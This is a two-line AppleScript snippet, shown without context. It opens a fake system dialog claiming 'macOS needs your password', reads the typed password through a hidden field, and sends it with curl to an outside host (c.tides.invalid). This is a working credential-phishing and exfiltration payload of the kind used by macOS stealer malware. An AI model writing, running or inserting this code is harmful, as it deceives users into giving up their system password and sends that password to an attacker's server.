set p to text returned of (display dialog "macOS needs your password" default answer "" with hidden answer)
do shell script "curl -s -d p=" & quoted form of p & " https://c.tides.invalid/p"
